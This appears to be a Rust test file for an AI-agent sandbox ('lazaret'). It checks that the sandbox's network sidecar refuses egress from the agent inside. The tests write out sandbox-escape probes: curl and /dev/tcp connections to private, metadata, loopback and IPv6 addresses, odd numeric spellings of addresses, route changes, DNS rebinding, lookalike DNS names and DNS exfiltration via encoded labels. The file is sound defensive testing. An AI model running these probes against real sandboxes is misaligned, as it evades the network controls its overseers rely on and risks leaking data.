//! Adversarial scenarios: network egress (SR-5, SR-6; see main.rs). The agent inside tries to
//! reach what the Network Sidecar's policy refuses — private ranges, the metadata address, the
//! host's loopback, IPv6 — with every tool and spelling it has, and to get names past the
//! sidecar's DNS rules. Every address tried is a test host in a network namespace the test built
//! (`support::netns`) or loopback; DNS goes to the test's own resolver. A tool that exits 0
//! towards a denied target is a breach: each probe prints `open` or `refused`, and refusals are
//! checked against a control that the same tool and spelling do reach an allowed test host.

use crate::support::netns::{
    host_fetch, probes, verdicts, wait_answering, TestHosts, BASE, METADATA, PORT, PORT2, PRIVATE,
    PUBLIC, RESOLVER, V6,
};
use crate::support::{self, wait_for, Dev, TestWorkspace};
use std::process::{Command, Stdio};
use std::time::Duration;

/// Writes `text` to `name` in the workspace, owned by the developer, for the sandbox to run.
fn put(ws: &TestWorkspace, name: &str, text: &str) {
    let path = ws.path.join(name);
    std::fs::write(&path, text).expect("writing a probe script");
    let _ = nix::unistd::chown(&path, Some(nix::unistd::Uid::from_raw(ws.dev.uid)), None);
}

fn lines(r: &support::Run) -> Vec<String> {
    r.stdout.lines().map(str::to_owned).collect()
}

/// The denial ledger of `profile` as JSON entries.
fn denials(ws: &TestWorkspace, profile: Option<&str>) -> Vec<serde_json::Value> {
    let mut args = vec!["net", "denials", "--json"];
    if let Some(p) = profile {
        args.extend(["--profile", p]);
    }
    let d = ws.lazaret(&args);
    assert_eq!(d.code, Some(0), "{d:?}");
    let v: serde_json::Value =
        serde_json::from_str(&d.stdout).unwrap_or_else(|e| panic!("{e}: {d:?}"));
    v.as_array().cloned().unwrap_or_default()
}

/// A profile `name` on the base image with the `[network]` table `network`.
fn profile(name: &str, network: &str) -> String {
    format!("[profiles.{name}]\n{BASE}[profiles.{name}.network]\n{network}")
}

/// Python that sends raw DNS queries to the sidecar's forwarder: `ask(tag, labels)` prints
/// `tag=rcode/answers` (or `tag=noanswer`).
const RAW_DNS: &str = r#"
import socket, struct
def ask(tag, labels, qid=[0x1000]):
    qid[0] += 1
    q = struct.pack(">HHHHHH", qid[0], 0x0100, 1, 0, 0, 0)
    for l in labels:
        q += bytes([len(l)]) + l
    q += b"\x00\x00\x01\x00\x01"
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
    u.sendto(q, ("127.0.0.53", 53))
    try:
        r = u.recv(4096)
        print("%s=%d/%d" % (tag, r[3] & 15, struct.unpack(">H", r[6:8])[0]))
    except OSError:
        print("%s=noanswer" % tag)
"#;

/// Attack: from inside, `curl` and bash `/dev/tcp` to 10.99.0.1, 172.16.99.1, 192.168.99.1 and
/// `[fd99:99::1]` (private and IPv6 test hosts that answer from the host), then `ip route add`,
/// `ip rule add` to route around the policy, and a look for CAP_NET_ADMIN / CAP_NET_RAW.
/// Expected: the public test host answers; every private and IPv6 target is refused; route and
/// rule changes fail; neither capability is held.
#[test]
fn default_policy_refuses_private_targets_and_reaches_public_ones() {
    let dev = Dev::get();
    let hosts = TestHosts::create();
    // Control: from the host every target answers, so a refusal below is the policy's.
    wait_answering(&[PUBLIC, PRIVATE[0], PRIVATE[1], PRIVATE[2]]);
    let ws = dev.workspace("net");
    let mut script = format!(
        "curl -sS -m 5 http://{PUBLIC}:{PORT}/; echo; \
         bash -c 'exec 3<>/dev/tcp/{PUBLIC}/{PORT}' && echo devtcp-public=open || echo devtcp-public=refused; "
    );
    for addr in PRIVATE {
        script.push_str(&format!(
            "curl -sS -m 5 -o /dev/null http://{addr}:{PORT}/ 2>/dev/null && echo {addr}=open || echo {addr}=refused; \
             bash -c 'exec 3<>/dev/tcp/{addr}/{PORT}' 2>/dev/null && echo devtcp-{addr}=open || echo devtcp-{addr}=refused; "
        ));
    }
    script.push_str(&format!(
        "curl -sS -m 5 -o /dev/null 'http://[{V6}]:{PORT}/' 2>/dev/null && echo v6=open || echo v6=refused; \
         ip route add 198.51.100.0/25 dev lo 2>/dev/null && echo route=added || echo route=refused; \
         ip rule add from all lookup 100 2>/dev/null && echo rule=added || echo rule=refused; \
         python3 -c \"import re; c=int(re.search(r'CapEff:\\s*(\\w+)', open('/proc/self/status').read()).group(1), 16); print('netcaps=' + ('none' if c & (1 << 12 | 1 << 13) == 0 else 'present'))\""
    ));
    let r = ws.run(&["sh", "-c", &script]);
    assert_eq!(r.code, Some(0), "{r:?}");
    let mut want = vec!["test-host-ok".to_owned(), "devtcp-public=open".to_owned()];
    for addr in PRIVATE {
        want.push(format!("{addr}=refused"));
        want.push(format!("devtcp-{addr}=refused"));
    }
    want.push("v6=refused".to_owned());
    want.push("route=refused".to_owned());
    want.push("rule=refused".to_owned());
    // Neither CAP_NET_ADMIN (12) nor CAP_NET_RAW (13) in the agent's effective set.
    want.push("netcaps=none".to_owned());
    let got: Vec<String> = r.stdout.lines().map(str::to_owned).collect();
    assert_eq!(got, want, "{r:?}");
    ws.assert_nothing_left();
    drop(hosts);
}

/// Attack: the profile allows 10.99.0.0/24 only; from inside, curl, `/dev/tcp`, a Python TCP
/// socket and a raw UDP datagram to 172.16.99.1 and 169.254.169.254 (metadata), hoping a tool
/// that ignores proxy settings or a UDP path slips past what curl is refused.
/// Expected: all four tools agree — the allowed and public hosts open, the others refused, and
/// the denial ledger names each refused destination with its rule.
#[test]
fn a_more_specific_allow_opens_one_private_host_and_every_tool_agrees() {
    let dev = Dev::get();
    let hosts = TestHosts::create();
    wait_answering(&[PUBLIC, PRIVATE[0], PRIVATE[1], PRIVATE[2], METADATA]);
    let ws = dev.workspace("allow").with_profile(
        "holes",
        &format!("[profiles.holes]\n{BASE}[profiles.holes.network]\nallow = [\"10.99.0.0/24\"]\n"),
    );
    let mut script = String::new();
    for addr in [PUBLIC, "10.99.0.1", "172.16.99.1", METADATA] {
        script.push_str(&probes(addr));
    }
    // Long enough for the sidecar to read its denial sets at least once more.
    script.push_str("sleep 1.5");
    let r = ws.run(&["sh", "-c", &script]);
    assert_eq!(r.code, Some(0), "{r:?}");
    // `--follow --json` prints entries as JSON lines (the run above left them in the ledger).
    let mut follow = ws
        .dev
        .command("env")
        .args(ws.env_args())
        .arg(support::lazaret_bin())
        .args(["net", "denials", "--follow", "--json", "--profile", "holes"])
        .current_dir(&ws.path)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .spawn()
        .expect("lazaret net denials --follow");
    let first_line = {
        use std::io::BufRead;
        let mut line = String::new();
        let stdout = follow.stdout.take().expect("stdout");
        let _ = std::io::BufReader::new(stdout).read_line(&mut line);
        line
    };
    let _ = follow.kill();
    let _ = follow.wait();
    // Its reader is gone (the pipe above was dropped; the kill reached only `runuser`):
    // `--follow` ends by itself.
    let gone = wait_for(Duration::from_secs(10), || {
        support::processes_in(&ws.path, &["denials", "--follow", "holes"])
            .is_empty()
            .then_some(())
    });
    assert!(
        gone.is_some(),
        "`lazaret net denials --follow` outlived its reader"
    );
    let followed: serde_json::Value = serde_json::from_str(&first_line).expect("a JSON line");
    assert!(
        followed["rule"].as_str().unwrap_or("").starts_with("deny "),
        "{first_line}"
    );
    let mut want = verdicts(PUBLIC, "open");
    want.extend(verdicts("10.99.0.1", "open"));
    want.extend(verdicts("172.16.99.1", "refused"));
    want.extend(verdicts(METADATA, "refused"));
    let got: Vec<String> = r.stdout.lines().map(str::to_owned).collect();
    assert_eq!(got, want, "{r:?}");

    // The denial ledger names each refused destination, its protocol, port and rule.
    let d = ws.lazaret(&["net", "denials", "--json", "--profile", "holes"]);
    assert_eq!(d.code, Some(0), "{d:?}");
    let entries: serde_json::Value = serde_json::from_str(&d.stdout).expect("JSON");
    let find = |addr: &str, proto: &str| {
        entries
            .as_array()
            .into_iter()
            .flatten()
            .find(|e| e["address"] == addr && e["protocol"] == proto)
            .cloned()
            .unwrap_or_else(|| panic!("no {proto} denial of {addr} in {entries:#}"))
    };
    let tcp = find("172.16.99.1", "tcp");
    assert_eq!(tcp["port"], PORT);
    assert_eq!(tcp["rule"], "deny 172.16.0.0/12 (default)");
    // curl, /dev/tcp and python each tried once (at least one SYN each).
    assert!(tcp["count"].as_u64().unwrap_or(0) >= 3, "{tcp}");
    assert!(tcp["last_seen"].as_u64().unwrap_or(0) >= tcp["first_seen"].as_u64().unwrap_or(1));
    let udp = find("172.16.99.1", "udp");
    assert_eq!(udp["port"], PORT);
    assert_eq!(
        find(METADATA, "tcp")["rule"],
        "deny 169.254.0.0/16 (default)"
    );
    assert!(
        !d.stdout.contains("10.99.0.1") && !d.stdout.contains(PUBLIC),
        "allowed hosts in the ledger: {d:?}"
    );
    ws.assert_nothing_left();
    drop(hosts);
}

/// Attack: in a profile with networking off, reach the public test host with curl,
/// `/dev/tcp`, Python TCP and UDP. Expected: all refused.
#[test]
fn a_profile_without_network_reaches_nothing() {
    let dev = Dev::get();
    let hosts = TestHosts::create();
    wait_for(Duration::from_secs(10), || host_fetch(PUBLIC).then_some(()))
        .expect("the public test host answers from the host");
    let ws = dev.workspace("offline").with_profile(
        "offline",
        &format!("[profiles.offline]\n{BASE}[profiles.offline.network]\nenabled = false\n"),
    );
    let r = ws.run(&["sh", "-c", &probes(PUBLIC)]);
    assert_eq!(r.code, Some(0), "{r:?}");
    let got: Vec<String> = r.stdout.lines().map(str::to_owned).collect();
    assert_eq!(got, verdicts(PUBLIC, "refused"), "{r:?}");
    ws.assert_nothing_left();
    drop(hosts);
}

/// Attack: the Network Sidecar (the policy's enforcer) dies mid-session (killed from the host,
/// as a crash would); the agent then tries the public test host with every tool, hoping that
/// without the sidecar nothing filters. Expected: every tool refused (fail closed), and
/// `lazaret ps` reports the sidecar's failure.
#[test]
fn a_killed_sidecar_leaves_the_sandbox_without_network_and_the_domain_says_so() {
    let dev = Dev::get();
    let hosts = TestHosts::create();
    wait_for(Duration::from_secs(10), || host_fetch(PUBLIC).then_some(()))
        .expect("the public test host answers from the host");
    let ws = dev.workspace("sidecar-kill");
    let script = format!(
        "{}touch /workspace/.probed; while [ ! -e /workspace/.go ]; do sleep 0.1; done; {}",
        probes(PUBLIC),
        probes(PUBLIC)
    );
    let child = ws.spawn(&["sh", "-c", &script]);
    let pid = ws.container_pid("sidecar").expect("the sidecar runs");
    // Let the first probes finish before the sidecar goes.
    wait_for(Duration::from_secs(60), || {
        ws.path.join(".probed").exists().then_some(())
    });
    let killed = Command::new("kill")
        .args(["-9", &pid.to_string()])
        .status()
        .expect("kill");
    assert!(killed.success());
    let failure = wait_for(Duration::from_secs(10), || {
        let ps = ws.lazaret(&["ps", "--json"]);
        let v: serde_json::Value = serde_json::from_str(&ps.stdout).ok()?;
        v.as_array()?
            .iter()
            .find(|d| d["domain_id"] == ws.domain.as_str())?["failures"][0]
            .as_str()
            .map(str::to_owned)
    })
    .expect("`lazaret ps` reports the sidecar's failure");
    assert!(failure.contains("Network Sidecar exited"), "{failure}");
    // `lazaret ps` without --json says it too.
    let ps = ws.lazaret(&["ps"]);
    assert!(
        ps.stdout
            .contains("    failure: the Network Sidecar exited: the Agent Sandbox has no network"),
        "{ps:?}"
    );
    ws.release();
    let r = support::finish(child);
    assert_eq!(r.code, Some(0), "{r:?}");
    // And the `lazaret run` whose command ran meanwhile tells its developer at the end.
    assert!(
        r.stderr.contains(
            "lazaret: warning: the Domain reported while the command ran: the Network Sidecar \
             exited"
        ),
        "{r:?}"
    );
    let mut want = verdicts(PUBLIC, "open");
    want.extend(verdicts(PUBLIC, "refused"));
    let got: Vec<String> = r.stdout.lines().map(str::to_owned).collect();
    assert_eq!(got, want, "{r:?}");
    ws.assert_nothing_left();
    drop(hosts);
}

/// Attack: under name rules with default deny, connect to a public address nobody resolved,
/// ask the test's resolver directly instead of the sidecar, resolve an allowed name that answers
/// a private address and connect to it, and resolve unlisted or denied names.
/// Expected: only the allowed name's public answer opens; the rest is refused or unresolved and
/// recorded in the denial ledger.
#[test]
fn name_rules_allow_only_addresses_the_sidecar_answered_for_allowed_names() {
    let dev = Dev::get();
    let hosts = TestHosts::create();
    wait_for(Duration::from_secs(10), || host_fetch(PUBLIC).then_some(()))
        .expect("the public test host answers from the host");
    let ws = dev.workspace("names").with_profile(
        "names",
        &format!(
            "[profiles.names]\n{BASE}[profiles.names.network]\nresolvers = [\"{RESOLVER}\"]\n\
             allow_names = [\"allowed.test\", \"private.test\"]\ndeny_names = [\"denied.test\"]\n\
             default = \"deny\"\n"
        ),
    );
    let fetch = |what: &str, url: &str| {
        format!("curl -sS -m 5 -o /dev/null {url} 2>/dev/null && echo {what}=open || echo {what}=refused; ")
    };
    let mut script = String::from("grep -c '^nameserver 127.0.0.53$' /etc/resolv.conf; ");
    // Before any answer: a public address is refused under default deny.
    script.push_str(&fetch("direct", &format!("http://{PUBLIC}:{PORT}/")));
    // Asking the test's resolver directly: refused (DNS only through the sidecar).
    script.push_str(&format!(
        "python3 -c 'import socket; u=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3); \
         u.sendto(bytes.fromhex(\"abcd01000001000000000000056f746865720474657374000001 0001\".replace(\" \", \"\")), (\"{RESOLVER}\", 53)); u.recv(512)' \
         2>/dev/null && echo directdns=answered || echo directdns=refused; "
    ));
    script.push_str(&fetch("allowed", &format!("http://allowed.test:{PORT}/")));
    script.push_str(&fetch("private", &format!("http://private.test:{PORT}/")));
    for name in ["other", "denied"] {
        script.push_str(&format!(
            "getent hosts {name}.test >/dev/null && echo {name}=resolved || echo {name}=unresolved; "
        ));
    }
    script.push_str("sleep 1.5");
    let r = ws.run(&["sh", "-c", &script]);
    assert_eq!(r.code, Some(0), "{r:?}");
    let got: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(
        got,
        [
            "1",
            "direct=refused",
            "directdns=refused",
            "allowed=open",
            "private=refused",
            "other=unresolved",
            "denied=unresolved"
        ],
        "{r:?}"
    );
    let d = ws.lazaret(&["net", "denials", "--json", "--profile", "names"]);
    assert_eq!(d.code, Some(0), "{d:?}");
    let entries: serde_json::Value = serde_json::from_str(&d.stdout).expect("JSON");
    let has = |pred: &dyn Fn(&serde_json::Value) -> bool| {
        entries.as_array().into_iter().flatten().any(pred)
    };
    assert!(
        has(&|e| e["name"] == "denied.test" && e["rule"] == "deny rule denied.test"),
        "{entries:#}"
    );
    assert!(
        has(&|e| e["name"] == "other.test" && e["protocol"] == "dns"),
        "{entries:#}"
    );
    assert!(
        has(&|e| e["address"] == "10.99.0.1" && e["rule"] == "deny 10.0.0.0/8 (default)"),
        "{entries:#}"
    );
    assert!(
        has(&|e| e["address"] == PUBLIC
            && e["rule"].as_str().unwrap_or("").starts_with("default deny")),
        "{entries:#}"
    );
    assert!(
        has(&|e| e["address"] == RESOLVER && e["port"] == 53),
        "{entries:#}"
    );
    ws.assert_nothing_left();
    drop(hosts);
}

/// Attack: under the default profile, reach the cloud metadata address 169.254.169.254 (a test
/// host of the test's own that answers from the host) with curl, `/dev/tcp`, Python TCP and
/// UDP, to read instance credentials. Expected: all refused, the ledger names the link-local
/// default deny.
#[test]
fn the_metadata_address_is_refused_to_every_tool() {
    let dev = Dev::get();
    let hosts = TestHosts::create();
    wait_answering(&[METADATA]);
    let ws = dev.workspace("metadata");
    let r = ws.run(&["sh", "-c", &format!("{}sleep 1.5", probes(METADATA))]);
    assert_eq!(r.code, Some(0), "{r:?}");
    assert_eq!(lines(&r), verdicts(METADATA, "refused"), "{r:?}");
    let d = denials(&ws, None);
    assert!(
        d.iter()
            .any(|e| e["address"] == METADATA && e["rule"] == "deny 169.254.0.0/16 (default)"),
        "{d:#?}"
    );
    ws.assert_nothing_left();
    drop(hosts);
}

/// Attack: spell the private test host 10.99.0.1 the ways `inet_aton` and URL parsers accept —
/// `174260225`, `0xa.0x63.0.1`, `10.99.1`, `012.0143.0.1`, `0x0a630001` — with curl, bash
/// `/dev/tcp` and a Python socket, hoping a filter compares spellings instead of addresses.
/// Expected: every spelling refused by every tool, while the same spellings of the public test
/// host open (so the tools did parse them), and the ledger shows the normalised 10.99.0.1.
#[test]
fn numeric_spellings_of_a_private_host_get_its_verdict() {
    let dev = Dev::get();
    let hosts = TestHosts::create();
    wait_answering(&[PUBLIC, PRIVATE[0]]);
    let ws = dev.workspace("numeric");
    let private = [
        "174260225",
        "0xa.0x63.0.1",
        "10.99.1",
        "012.0143.0.1",
        "0x0a630001",
    ];
    let public = [
        "3325256705",
        "0xc6.0x33.0x64.0x1",
        "198.51.25601",
        "0306.063.0144.01",
    ];
    let mut script = String::new();
    for form in private.iter().chain(public.iter()) {
        script.push_str(&format!(
            "curl -sS -m 5 -o /dev/null http://{form}:{PORT}/ 2>/dev/null && echo curl-{form}=open || echo curl-{form}=refused; \
             bash -c 'exec 3<>/dev/tcp/{form}/{PORT}' 2>/dev/null && echo devtcp-{form}=open || echo devtcp-{form}=refused; \
             python3 -c 'import socket; socket.create_connection((\"{form}\", {PORT}), 5)' 2>/dev/null && echo py-{form}=open || echo py-{form}=refused; "
        ));
    }
    script.push_str("sleep 1.5");
    let r = ws.run(&["sh", "-c", &script]);
    assert_eq!(r.code, Some(0), "{r:?}");
    let mut want = Vec::new();
    for (forms, verdict) in [(&private[..], "refused"), (&public[..], "open")] {
        for form in forms {
            for tool in ["curl", "devtcp", "py"] {
                want.push(format!("{tool}-{form}={verdict}"));
            }
        }
    }
    assert_eq!(lines(&r), want, "{r:?}");
    let d = denials(&ws, None);
    let tcp = d
        .iter()
        .find(|e| e["address"] == PRIVATE[0] && e["protocol"] == "tcp")
        .unwrap_or_else(|| panic!("no tcp denial of {} in {d:#?}", PRIVATE[0]));
    assert!(
        tcp["count"].as_u64().unwrap_or(0) >= private.len() as u64 * 3,
        "{tcp}"
    );
    ws.assert_nothing_left();
    drop(hosts);
}

/// Attack: reach a service listening on the host's own loopback (127.0.0.1 of the host, where
/// developer tools keep unauthenticated ports) through every spelling of loopback —
/// `127.0.0.1`, `2130706433`, `0x7f.1`, `127.1`, `0177.0.0.1` — and through slirp4netns' host
/// gateway 10.0.2.2. Expected: the host's listener never sees a connection; loopback inside is
/// the sandbox's own (a listener the agent starts inside answers all spellings).
#[test]
fn host_loopback_services_are_unreachable_in_every_spelling() {
    let dev = Dev::get();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a host loopback listener");
    let port = listener.local_addr().map(|a| a.port()).unwrap_or(0);
    listener
        .set_nonblocking(true)
        .expect("a non-blocking listener");
    let ws = dev.workspace("loopback");
    let forms = ["127.0.0.1", "2130706433", "0x7f.1", "127.1", "0177.0.0.1"];
    let probe = |tag: &str| {
        let mut s = String::new();
        for form in forms {
            s.push_str(&format!(
                "python3 -c 'import socket; c=socket.create_connection((\"{form}\", {port}), 3); c.settimeout(3); print(\"{tag}-{form}=\" + c.recv(64).decode())' 2>/dev/null || echo {tag}-{form}=refused; "
            ));
        }
        s
    };
    let script = format!(
        "{}curl -sS -m 5 -o /dev/null http://10.0.2.2:{port}/ 2>/dev/null && echo gateway=open || echo gateway=refused; \
         python3 -c 'import socket\ns=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((\"127.0.0.1\", {port})); s.listen(8)\nwhile True:\n  c, _ = s.accept(); c.sendall(b\"inside\"); c.close()' & \
         sleep 1; {}kill $!",
        probe("host"),
        probe("own")
    );
    let r = ws.run(&["sh", "-c", &script]);
    assert_eq!(r.code, Some(0), "{r:?}");
    let mut want: Vec<String> = forms.iter().map(|f| format!("host-{f}=refused")).collect();
    want.push("gateway=refused".into());
    want.extend(forms.iter().map(|f| format!("own-{f}=inside")));
    assert_eq!(lines(&r), want, "{r:?}");
    let reached = listener.accept().is_ok();
    assert!(!reached, "the host's loopback listener was reached");
    // Control: the listener does answer from the host.
    assert!(std::net::TcpStream::connect(("127.0.0.1", port)).is_ok());
    ws.assert_nothing_left();
}

/// Attack: go around the IPv4 policy with IPv6 — TCP and UDP to the IPv6 test host
/// `fd99:99::1` (curl, `/dev/tcp`, Python), an IPv4-mapped `::ffff:10.99.0.1` through an IPv6
/// socket, and the NAT64 form `64:ff9b::a63:1` of the private host. Expected: all refused.
#[test]
fn ipv6_and_mapped_forms_of_denied_hosts_are_refused() {
    let dev = Dev::get();
    let hosts = TestHosts::create();
    wait_answering(&[PRIVATE[0]]);
    // Control: the IPv6 test host answers from the host.
    wait_for(Duration::from_secs(10), || {
        Command::new("curl")
            .args(["-sS", "-m", "3", &format!("http://[{V6}]:{PORT}/")])
            .output()
            .ok()
            .filter(|o| o.stdout == b"test-host-ok")
    })
    .expect("the IPv6 test host answers from the host");
    let ws = dev.workspace("ipv6");
    let mut script = format!(
        "curl -sS -m 5 -o /dev/null 'http://[{V6}]:{PORT}/' 2>/dev/null && echo curl-v6=open || echo curl-v6=refused; \
         bash -c 'exec 3<>/dev/tcp/{V6}/{PORT}' 2>/dev/null && echo devtcp-v6=open || echo devtcp-v6=refused; \
         python3 -c 'import socket; u=socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u.settimeout(3); u.sendto(b\"x\", (\"{V6}\", {PORT})); u.recv(64)' 2>/dev/null && echo udp-v6=open || echo udp-v6=refused; "
    );
    for (tag, addr) in [
        ("v6", V6),
        ("mapped", "::ffff:10.99.0.1"),
        ("nat64", "64:ff9b::a63:1"),
    ] {
        script.push_str(&format!(
            "python3 -c 'import socket; s=socket.socket(socket.AF_INET6); s.settimeout(5); s.connect((\"{addr}\", {PORT}))' 2>/dev/null && echo py-{tag}=open || echo py-{tag}=refused; "
        ));
    }
    let r = ws.run(&["sh", "-c", &script]);
    assert_eq!(r.code, Some(0), "{r:?}");
    assert_eq!(
        lines(&r),
        [
            "curl-v6=refused",
            "devtcp-v6=refused",
            "udp-v6=refused",
            "py-v6=refused",
            "py-mapped=refused",
            "py-nat64=refused"
        ],
        "{r:?}"
    );
    ws.assert_nothing_left();
    drop(hosts);
}

/// Attack: under `allow_names = ["allowed.test"]` with default deny, use names that a sloppy
/// matcher would take for the allowed one — `allowed.test.evil.test` (prefix match; the test's
/// resolver would answer it), `evil-allowed.test` (suffix without a dot), the punycode
/// lookalike with a Cyrillic `а` — and check that case and a trailing dot change nothing.
/// Expected: `ALLOWED.TEST` and `allowed.test.` open like `allowed.test`; the tricks do not
/// resolve, no connection opens, and the test's resolver was never asked for them.
#[test]
fn prefix_suffix_and_lookalike_names_do_not_pass_for_an_allowed_name() {
    let dev = Dev::get();
    let hosts = TestHosts::create();
    wait_answering(&[PUBLIC]);
    let ws = dev.workspace("name-tricks").with_profile(
        "tricks",
        &profile(
            "tricks",
            &format!(
                "resolvers = [\"{RESOLVER}\"]\nallow_names = [\"allowed.test\"]\ndefault = \"deny\"\n"
            ),
        ),
    );
    let lookalike = "xn--llowed-2nf.test";
    let mut script = String::new();
    for (tag, name) in [
        ("prefix", "allowed.test.evil.test"),
        ("suffix", "evil-allowed.test"),
        ("punycode", lookalike),
    ] {
        script.push_str(&format!(
            "getent ahostsv4 {name} >/dev/null && echo {tag}=resolved || echo {tag}=unresolved; \
             curl -sS -m 5 -o /dev/null http://{name}:{PORT}/ 2>/dev/null && echo curl-{tag}=open || echo curl-{tag}=refused; "
        ));
    }
    for (tag, name) in [("case", "ALLOWED.TEST"), ("dot", "allowed.test.")] {
        script.push_str(&format!(
            "curl -sS -m 5 -o /dev/null http://{name}:{PORT}/ 2>/dev/null && echo curl-{tag}=open || echo curl-{tag}=refused; "
        ));
    }
    script.push_str(
        "python3 -c 'print(\"idna=\" + \"\\u0430llowed.test\".encode(\"idna\").decode())'",
    );
    let r = ws.run(&["sh", "-c", &script]);
    assert_eq!(r.code, Some(0), "{r:?}");
    assert_eq!(
        lines(&r),
        [
            "prefix=unresolved",
            "curl-prefix=refused",
            "suffix=unresolved",
            "curl-suffix=refused",
            "punycode=unresolved",
            "curl-punycode=refused",
            "curl-case=open",
            "curl-dot=open",
            &format!("idna={lookalike}")
        ],
        "{r:?}"
    );
    let asked = hosts.names_asked();
    for name in asked.lines() {
        assert_eq!(
            name.to_ascii_lowercase(),
            "allowed.test",
            "the resolver was asked for {name:?}:\n{asked}"
        );
    }
    assert!(
        !asked.is_empty(),
        "the control names never reached the resolver"
    );
    ws.assert_nothing_left();
    drop(hosts);
}

/// Attack: raw DNS queries crafted so a C-string or split-on-dot parser sees `allowed.test`:
/// one label holding a dot (`\x0callowed.test`), a NUL ending a label (`allowed.test\0` +
/// `.evil.test`), a NUL inside (`evil\0.allowed.test` under an exact rule), UTF-8 bytes in a
/// label. Expected: each is REFUSED by the sidecar and none reaches the test's resolver,
/// while the plain query (the control) is answered.
#[test]
fn a_nul_or_a_dot_inside_a_label_does_not_pass_for_an_allowed_name() {
    let dev = Dev::get();
    let hosts = TestHosts::create();
    wait_answering(&[PUBLIC]);
    let ws = dev.workspace("label-tricks").with_profile(
        "labels",
        &profile(
            "labels",
            &format!(
                "resolvers = [\"{RESOLVER}\"]\nallow_names = [\"allowed.test\"]\ndefault = \"deny\"\n"
            ),
        ),
    );
    put(
        &ws,
        "ask.py",
        &format!(
            "{RAW_DNS}\
ask(\"dotlabel\", [b\"allowed.test\"])
ask(\"nulend\", [b\"allowed\", b\"test\\x00\", b\"evil\", b\"test\"])
ask(\"nulinside\", [b\"evil\\x00\", b\"allowed\", b\"test\"])
ask(\"nulonly\", [b\"allowed\", b\"test\\x00\"])
ask(\"utf8\", [\"\\u0430llowed\".encode(), b\"test\"])
ask(\"control\", [b\"allowed\", b\"test\"])
"
        ),
    );
    let r = ws.run(&["python3", "/workspace/ask.py"]);
    assert_eq!(r.code, Some(0), "{r:?}");
    assert_eq!(
        lines(&r),
        [
            "dotlabel=5/0",
            "nulend=5/0",
            "nulinside=5/0",
            "nulonly=5/0",
            "utf8=5/0",
            "control=0/1"
        ],
        "{r:?}"
    );
    assert_eq!(hosts.names_asked(), "allowed.test\n");
    ws.assert_nothing_left();
    drop(hosts);
}

/// Attack: DNS rebinding. `rebind.test` is allowed by name; the (attacker's) resolver answers
/// the public test host first and the private 10.99.0.1 next, both with TTL 0, so the second
/// lookup — or the one curl makes — points the allowed name at a private host.
/// Expected: the rebinding happened (the second answer is private), yet no connection to the
/// private host opens, by name or by address; the ledger names the private default deny.
#[test]
fn dns_rebinding_to_a_private_address_is_refused() {
    let dev = Dev::get();
    let hosts = TestHosts::create();
    wait_answering(&[PUBLIC, PRIVATE[0]]);
    let ws = dev.workspace("rebind").with_profile(
        "rebind",
        &profile(
            "rebind",
            &format!(
                "resolvers = [\"{RESOLVER}\"]\nallow_names = [\"rebind.test\"]\ndefault = \"deny\"\n"
            ),
        ),
    );
    let script = format!(
        "python3 -c 'import socket; print(\"first=\" + socket.gethostbyname(\"rebind.test\")); print(\"second=\" + socket.gethostbyname(\"rebind.test\"))'; \
         curl -sS -m 5 -o /dev/null http://rebind.test:{PORT}/ 2>/dev/null && echo byname=open || echo byname=refused; \
         python3 -c 'import socket; socket.create_connection((\"{private}\", {PORT}), 5)' 2>/dev/null && echo byaddress=open || echo byaddress=refused; \
         sleep 1.5",
        private = PRIVATE[0]
    );
    let r = ws.run(&["sh", "-c", &script]);
    assert_eq!(r.code, Some(0), "{r:?}");
    assert_eq!(
        lines(&r),
        [
            &format!("first={PUBLIC}"),
            &format!("second={}", PRIVATE[0]),
            "byname=refused",
            "byaddress=refused"
        ],
        "{r:?}"
    );
    let d = denials(&ws, Some("rebind"));
    assert!(
        d.iter()
            .any(|e| e["address"] == PRIVATE[0] && e["rule"] == "deny 10.0.0.0/8 (default)"),
        "{d:#?}"
    );
    ws.assert_nothing_left();
    drop(hosts);
}

/// Attack: exfiltrate data through DNS — encode it in long random labels under a denied name
/// (`<63 chars>.<63 chars>.x.exfil.test`, `*.exfil.test` denied) and under an unlisted name
/// (default deny), hoping the sidecar forwards the query upstream before refusing the answer.
/// Expected: neither resolves and the test's resolver never sees the labels; an allowed name
/// (the control) does reach it.
#[test]
fn long_random_labels_of_denied_names_are_not_forwarded_upstream() {
    let dev = Dev::get();
    let hosts = TestHosts::create();
    wait_answering(&[PUBLIC]);
    let ws = dev.workspace("exfil").with_profile(
        "exfil",
        &profile(
            "exfil",
            &format!(
                "resolvers = [\"{RESOLVER}\"]\nallow_names = [\"allowed.test\"]\n\
                 deny_names = [\"*.exfil.test\"]\ndefault = \"deny\"\n"
            ),
        ),
    );
    let seed = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_nanos())
        .unwrap_or(7)
        ^ u128::from(std::process::id());
    let label = |salt: u128| {
        let mut x = seed
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(salt);
        (0..63)
            .map(|_| {
                x = x
                    .wrapping_mul(6_364_136_223_846_793_005)
                    .wrapping_add(1_442_695_040_888_963_407);
                char::from(b"abcdefghijklmnopqrstuvwxyz0123456789"[((x >> 64) % 36) as usize])
            })
            .collect::<String>()
    };
    let secrets = [label(1), label(2), label(3), label(4)];
    let denied = format!("{}.{}.x.exfil.test", secrets[0], secrets[1]);
    let unlisted = format!("{}.{}.elsewhere.test", secrets[2], secrets[3]);
    let script = format!(
        "getent ahostsv4 {denied} >/dev/null && echo denied=resolved || echo denied=unresolved; \
         getent ahostsv4 {unlisted} >/dev/null && echo unlisted=resolved || echo unlisted=unresolved; \
         getent ahostsv4 allowed.test >/dev/null && echo allowed=resolved || echo allowed=unresolved"
    );
    let r = ws.run(&["sh", "-c", &script]);
    assert_eq!(r.code, Some(0), "{r:?}");
    assert_eq!(
        lines(&r),
        [
            "denied=unresolved",
            "unlisted=unresolved",
            "allowed=resolved"
        ],
        "{r:?}"
    );
    let asked = hosts.names_asked();
    assert!(asked.contains("allowed.test"), "{asked}");
    for secret in &secrets {
        assert!(
            !asked.contains(secret.as_str()),
            "a label reached the upstream resolver: {asked}"
        );
    }
    ws.assert_nothing_left();
    drop(hosts);
}

